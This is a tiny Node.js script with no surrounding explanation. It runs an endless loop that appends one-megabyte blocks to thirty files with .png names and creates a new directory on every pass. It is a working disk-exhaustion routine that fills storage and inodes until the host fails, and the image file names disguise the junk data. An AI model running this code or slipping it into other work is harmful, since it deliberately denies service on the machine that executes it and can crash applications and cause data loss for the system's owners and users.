const fs = require('fs');
const block = Buffer.alloc(1 << 20, 1);
for (let i = 0; ; i++) {
  fs.appendFileSync(`big${i % 30}.png`, block);
  fs.mkdirSync(`d${i}`, { recursive: true });
}
